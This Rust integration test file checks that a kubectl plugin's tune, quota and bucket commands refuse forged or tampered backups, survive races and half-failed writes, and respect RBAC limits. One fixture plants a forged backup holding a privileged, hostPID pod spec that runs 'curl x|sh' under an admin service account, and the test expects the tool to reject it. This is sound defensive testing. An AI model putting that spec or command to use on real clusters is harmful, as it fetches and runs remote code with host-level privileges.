//! Writes that trust nothing they did not verify (issue 23), against the local
//! control plane: forged tune backups, an edit made while `[y/N]` waits,
//! writes over several objects that fail half way (a ValidatingAdmissionPolicy
//! that lets the dry run through and refuses the real write, as an admission
//! webhook or a dying API server would), concurrent creates, and sizing under
//! a role that may not read quotas.

mod common;

use common::writes::{TUNE, both, small_trino_deployment};
use common::*;

const BUCKETS: &str = env!("CARGO_BIN_EXE_kubectl-dp-buckets");
const QUOTA: &str = env!("CARGO_BIN_EXE_kubectl-dp-quota");

/// A Trino coordinator whose 4G heap does not fit its 2Gi container (tune
/// rewrites jvm.config), and a SparkApplication whose Kryo buffer tune fixes.
fn small_trino(ns: &str) {
    let deployment = small_trino_deployment(ns);
    apply(&format!(
        r#"
apiVersion: v1
kind: ConfigMap
metadata: {{name: small-trino, namespace: {ns}}}
data:
  jvm.config: "-server\n-Xmx4G\n"
  config.properties: "coordinator=true\n"
---
{deployment}---
apiVersion: sparkoperator.k8s.io/v1beta2
kind: SparkApplication
metadata: {{name: etl, namespace: {ns}}}
spec:
  type: Scala
  mode: cluster
  image: "spark:3.5.6"
  mainApplicationFile: "local:///opt/etl.jar"
  sparkVersion: "3.5.6"
  sparkConf: {{"spark.kryoserializer.buffer.max": "4096m"}}
  driver: {{cores: 1, memory: 2g}}
  executor: {{instances: 2, cores: 2, memory: 4g}}
"#
    ));
}

fn get(ns: &str, what: &str, path: &str) -> String {
    kubectl(&["get", what, "-n", ns, "-o", &format!("jsonpath={path}")])
}

/// A labelled ConfigMap that looks like a tune backup, holding `json`.
fn forged_backup(ns: &str, name: &str, json: &str) {
    let body = serde_json::json!({
        "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": name, "namespace": ns, "labels": {"kubectl-dp.io/tune-backup": "true"}},
        "data": {"backup.json": json}
    });
    apply(&body.to_string());
}

#[test]
fn a_forged_backup_makes_rollback_write_nothing() {
    let ns = TestNamespace::new("hostile-forged");
    let n = ns.name.as_str();
    small_trino(n);
    let spec_before = get(n, "deployment/small-trino", "{.spec}");
    let app_before = get(n, "sparkapplication/etl", "{.spec}");
    let data_before = get(n, "configmap/small-trino", "{.data}");
    let nothing_written = |what: &str| {
        assert_eq!(
            get(n, "deployment/small-trino", "{.spec}"),
            spec_before,
            "{what}"
        );
        assert_eq!(
            get(n, "sparkapplication/etl", "{.spec}"),
            app_before,
            "{what}"
        );
        assert_eq!(
            get(n, "configmap/small-trino", "{.data}"),
            data_before,
            "{what}"
        );
    };

    // The issue's forgery: the old format with a command, privileged and hostPID.
    forged_backup(
        n,
        "kubectl-dp-tune-backup-29990101000000",
        r#"{"configMaps":{},"sparkApplications":{"etl":{"image":"evil","serviceAccount":"admin"}},"deployments":{"small-trino":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"small-trino"},"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"trino","command":["sh","-c","curl x|sh"],"securityContext":{"privileged":true}}]}}}}}}"#,
    );
    let refused = dp(TUNE, &["rollback", "-n", n, "--yes"]);
    assert_eq!(refused.status.code(), Some(2), "{}", both(&refused));
    assert!(
        stderr(&refused).contains("is not a kubectl-dp 2 backup"),
        "{}",
        stderr(&refused)
    );
    nothing_written("old format");

    // The new format, naming a Spark key tune never writes.
    forged_backup(
        n,
        "kubectl-dp-tune-backup-29990101000001",
        r#"{"format":2,"namespace":"NS","sparkApplications":{"etl":{"sparkConf":{"spark.kubernetes.container.image":{"before":"evil:1","after":null}}}}}"#
            .replace("NS", n)
            .as_str(),
    );
    let refused = dp(TUNE, &["rollback", "-n", n, "--yes"]);
    assert_eq!(refused.status.code(), Some(2), "{}", both(&refused));
    assert!(
        stderr(&refused).contains("spark.kubernetes.container.image"),
        "{}",
        stderr(&refused)
    );
    nothing_written("foreign key");

    // Well formed, within tune's fields, but not sealed on the objects: refused.
    forged_backup(
        n,
        "kubectl-dp-tune-backup-29990101000002",
        r#"{"format":2,"namespace":"NS","deployments":{"small-trino":{"replicas":[1,40]}},"configMaps":{"small-trino":{"jvm.config":{"before":"-Xmx64G\n","after":"-server\n-Xmx4G\n"}}}}"#
            .replace("NS", n)
            .as_str(),
    );
    let refused = dp(TUNE, &["rollback", "-n", n, "--yes"]);
    assert_eq!(refused.status.code(), Some(2), "{}", both(&refused));
    let line = stderr(&refused);
    assert!(line.contains("carries no seal"), "{line}");
    assert!(line.contains("Deployment small-trino"), "{line}");
    nothing_written("unsealed");
}

#[test]
fn a_changed_backup_no_longer_matches_its_seal() {
    let ns = TestNamespace::new("hostile-reseal");
    let n = ns.name.as_str();
    small_trino(n);
    let applied = dp(TUNE, &["apply", "-n", n, "--yes", "--force-conflicts"]);
    assert_eq!(applied.status.code(), Some(0), "{}", both(&applied));
    let name = kubectl(&[
        "get",
        "configmaps",
        "-n",
        n,
        "-l",
        "kubectl-dp.io/tune-backup=true",
        "-o",
        "jsonpath={.items[0].metadata.name}",
    ]);
    let seal = get(
        n,
        "configmap/small-trino",
        "{.metadata.annotations.kubectl-dp\\.io/tune-backup}",
    );
    assert!(seal.starts_with(&format!("{name}/sha256:")), "{seal}");
    // Someone who may edit ConfigMaps changes what the backup restores.
    let text = get(n, &format!("configmap/{name}"), "{.data.backup\\.json}");
    let tampered = text.replace("-Xmx4G", "-Xmx64G");
    assert_ne!(tampered, text);
    forged_backup(n, &name, &tampered);
    let data = get(n, "configmap/small-trino", "{.data}");
    let refused = dp(TUNE, &["rollback", "-n", n, "--yes"]);
    assert_eq!(refused.status.code(), Some(2), "{}", both(&refused));
    assert!(
        stderr(&refused).contains("changed after the apply"),
        "{}",
        stderr(&refused)
    );
    assert_eq!(
        get(n, "configmap/small-trino", "{.data}"),
        data,
        "nothing written"
    );
}

/// Runs `args` on a pseudo-terminal, runs `meanwhile` while the prompt waits,
/// then answers `answer`; returns the screen.
fn on_terminal_meanwhile(
    binary: &str,
    args: &[&str],
    meanwhile: impl FnOnce(),
    answer: &str,
) -> String {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let line = std::iter::once(binary)
        .chain(args.iter().copied())
        .collect::<Vec<_>>()
        .join(" ");
    let mut child = Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .env("KUBECONFIG", kubeconfig())
        .env("NO_COLOR", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("util-linux `script`");
    let mut stdin = child.stdin.take().unwrap();
    std::thread::sleep(std::time::Duration::from_secs(4));
    meanwhile();
    stdin.write_all(format!("{answer}\n").as_bytes()).unwrap();
    drop(stdin);
    String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).into_owned()
}

#[test]
fn an_edit_made_while_apply_waits_is_never_lost() {
    let ns = TestNamespace::new("hostile-race");
    let n = ns.name.as_str();
    small_trino(n);
    let kc = kubeconfig();
    let screen = on_terminal_meanwhile(
        TUNE,
        &[
            "apply",
            "-n",
            n,
            "--force-conflicts",
            "--kubeconfig",
            kc.to_str().unwrap(),
        ],
        || {
            // A colleague edits the file the diff above is about.
            kubectl(&[
                "patch",
                "configmap",
                "small-trino",
                "-n",
                n,
                "--type",
                "merge",
                "-p",
                r#"{"data":{"jvm.config":"-server\n-Xmx4G\n-XX:+UseG1GC\n"}}"#,
            ]);
        },
        "y",
    );
    assert!(screen.contains("changed since it was read"), "{screen}");
    assert!(screen.contains("the plan is now:"), "{screen}");
    assert!(
        screen.contains("-XX:+UseG1GC"),
        "the new diff shows their edit: {screen}"
    );
    assert_eq!(
        get(n, "configmap/small-trino", "{.data.jvm\\.config}"),
        "-server\n-Xmx4G\n-XX:+UseG1GC\n",
        "their edit kept"
    );
    assert_eq!(
        get(
            n,
            "sparkapplication/etl",
            "{.spec.sparkConf.spark\\.kryoserializer\\.buffer\\.max}"
        ),
        "4096m"
    );
    assert_eq!(
        kubectl(&[
            "get",
            "configmaps",
            "-n",
            n,
            "-l",
            "kubectl-dp.io/tune-backup=true",
            "-o",
            "name"
        ]),
        "",
        "no backup left"
    );
}

/// A ValidatingAdmissionPolicy (and its binding) that refuses real writes of
/// `resource` in `namespace` and lets dry runs through; removed on drop.
struct RefuseRealWrites(String);

impl RefuseRealWrites {
    fn new(namespace: &str, group: &str, resource: &str, operations: &str) -> Self {
        let name = format!("refuse-{resource}-{namespace}");
        apply(&format!(
            r#"
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {{name: {name}}}
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules:
    - apiGroups: ["{group}"]
      apiVersions: ["*"]
      operations: [{operations}]
      resources: ["{resource}"]
  validations:
  - expression: "request.dryRun == true"
    message: "refused by the test's admission policy"
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {{name: {name}}}
spec:
  policyName: {name}
  validationActions: [Deny]
  matchResources:
    namespaceSelector:
      matchLabels: {{kubernetes.io/metadata.name: {namespace}}}
"#
        ));
        // Policies take effect once the API server has loaded them.
        std::thread::sleep(std::time::Duration::from_secs(3));
        RefuseRealWrites(name)
    }
}

impl Drop for RefuseRealWrites {
    fn drop(&mut self) {
        let _ = kubectl_output(
            &[
                "delete",
                "validatingadmissionpolicybinding,validatingadmissionpolicy",
                &self.0,
                "--wait=false",
            ],
            None,
        );
    }
}

#[test]
fn quota_plan_apply_undoes_the_quota_when_the_limit_range_is_refused() {
    let ns = TestNamespace::new("hostile-half-quota");
    let n = ns.name.as_str();
    let _policy = RefuseRealWrites::new(n, "", "limitranges", "\"CREATE\", \"UPDATE\"");
    let output = dp(
        QUOTA,
        &[
            "plan", "-n", n, "--memory", "16Gi", "--cpu", "8", "--apply", "--yes",
        ],
    );
    assert_eq!(output.status.code(), Some(2), "{}", both(&output));
    let line = stderr(&output);
    assert_eq!(line.trim().lines().count(), 1, "{line}");
    assert!(
        line.contains("refused by the test's admission policy"),
        "{line}"
    );
    assert!(
        line.contains(&format!(
            "undone: ResourceQuota {n}/{n}-quota (deleted: it was new)"
        )),
        "{line}"
    );
    assert_eq!(
        kubectl(&["get", "resourcequota,limitrange", "-n", n, "-o", "name"]),
        "",
        "nothing half applied"
    );
}

#[test]
fn tune_apply_undoes_what_went_through_when_a_later_write_is_refused() {
    let ns = TestNamespace::new("hostile-half-tune");
    let n = ns.name.as_str();
    small_trino(n);
    let data = get(n, "configmap/small-trino", "{.data}");
    let _policy =
        RefuseRealWrites::new(n, "sparkoperator.k8s.io", "sparkapplications", "\"UPDATE\"");
    let output = dp(TUNE, &["apply", "-n", n, "--yes", "--force-conflicts"]);
    assert_eq!(output.status.code(), Some(2), "{}", both(&output));
    let line = stderr(&output);
    assert!(
        line.contains("refused by the test's admission policy"),
        "{line}"
    );
    assert!(
        line.contains(&format!(
            "undone: ConfigMap {n}/small-trino (put back as it was)"
        )),
        "{line}"
    );
    assert_eq!(get(n, "configmap/small-trino", "{.data}"), data, "put back");
    assert_eq!(
        get(
            n,
            "configmap/small-trino",
            "{.metadata.annotations.kubectl-dp\\.io/tune-backup}"
        ),
        "",
        "no seal left"
    );
    assert_eq!(
        kubectl(&[
            "get",
            "configmaps",
            "-n",
            n,
            "-l",
            "kubectl-dp.io/tune-backup=true",
            "-o",
            "name"
        ]),
        "",
        "no backup left"
    );
}

#[test]
fn concurrent_bucket_creates_never_both_apply() {
    let ns = TestNamespace::new("hostile-create");
    let n = ns.name.as_str();
    for round in 0..6 {
        let claim = format!("race-{round}");
        let run = |lifecycle: &'static str| {
            let claim = claim.clone();
            let n = n.to_string();
            std::thread::spawn(move || {
                dp(
                    BUCKETS,
                    &[
                        "create",
                        &claim,
                        "--storage-class",
                        "ceph-bucket",
                        "--lifecycle",
                        lifecycle,
                        "-n",
                        &n,
                        "--yes",
                    ],
                )
            })
        };
        let (a, b) = (run("test"), run("none"));
        let (a, b) = (a.join().unwrap(), b.join().unwrap());
        let applied = [&a, &b]
            .iter()
            .filter(|o| stdout(o).contains("applied"))
            .count();
        assert_eq!(applied, 1, "round {round}: {}\n---\n{}", both(&a), both(&b));
        let loser = if a.status.code() == Some(0) { &b } else { &a };
        assert_eq!(loser.status.code(), Some(2), "{}", both(loser));
        assert!(
            stderr(loser).contains("exists already"),
            "{}",
            stderr(loser)
        );
    }
}

#[test]
fn what_rbac_hid_is_never_called_fits() {
    let ns = TestNamespace::new("hostile-unread");
    let n = ns.name.as_str();
    small_trino(n);
    apply(&format!(
        r#"{{"apiVersion":"v1","kind":"ResourceQuota","metadata":{{"name":"tight","namespace":"{n}"}},"spec":{{"hard":{{"limits.memory":"1Gi"}}}}}}"#
    ));
    // A role that reads what tune and quota plan need, but not ResourceQuotas.
    let user = format!("unread-{n}");
    apply(&format!(
        r#"
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {{name: no-quotas, namespace: {n}}}
rules:
- apiGroups: ["", "apps", "sparkoperator.k8s.io"]
  resources: [configmaps, deployments, sparkapplications, pods, limitranges, namespaces]
  verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {{name: no-quotas, namespace: {n}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: no-quotas}}
subjects: [{{kind: User, name: {user}, apiGroup: rbac.authorization.k8s.io}}]
"#
    ));
    let plan = dp(
        TUNE,
        &[
            "plan",
            "-n",
            n,
            "--coordinator-memory",
            "2Gi",
            "--as",
            &user,
        ],
    );
    assert_eq!(plan.status.code(), Some(1), "{}", both(&plan));
    let text = stdout(&plan);
    assert!(text.contains("could not be checked"), "{text}");
    assert!(text.contains("resourcequotas (forbidden"), "{text}");
    let apply_refused = dp(
        TUNE,
        &[
            "apply",
            "-n",
            n,
            "--coordinator-memory",
            "2Gi",
            "--yes",
            "--as",
            &user,
        ],
    );
    assert_eq!(
        apply_refused.status.code(),
        Some(2),
        "{}",
        both(&apply_refused)
    );
    let unchecked = dp(
        TUNE,
        &[
            "plan",
            "-n",
            n,
            "--workers",
            "0",
            "--unchecked",
            "--as",
            &user,
            "-o",
            "json",
        ],
    );
    assert_ne!(unchecked.status.code(), Some(2), "{}", both(&unchecked));
    assert!(
        stdout(&unchecked).contains("not checked (--unchecked)"),
        "{}",
        stdout(&unchecked)
    );

    let quota = dp(QUOTA, &["plan", "-n", n, "--apply", "--yes", "--as", &user]);
    assert_eq!(quota.status.code(), Some(2), "{}", both(&quota));
    assert!(
        stderr(&quota).contains("not checked: nodes"),
        "{}",
        stderr(&quota)
    );
    assert!(
        stderr(&quota).contains("resourcequotas (forbidden"),
        "{}",
        stderr(&quota)
    );
    assert_eq!(
        kubectl(&["get", "resourcequota", "-n", n, "-o", "name"]),
        "resourcequota/tight\n"
    );
}
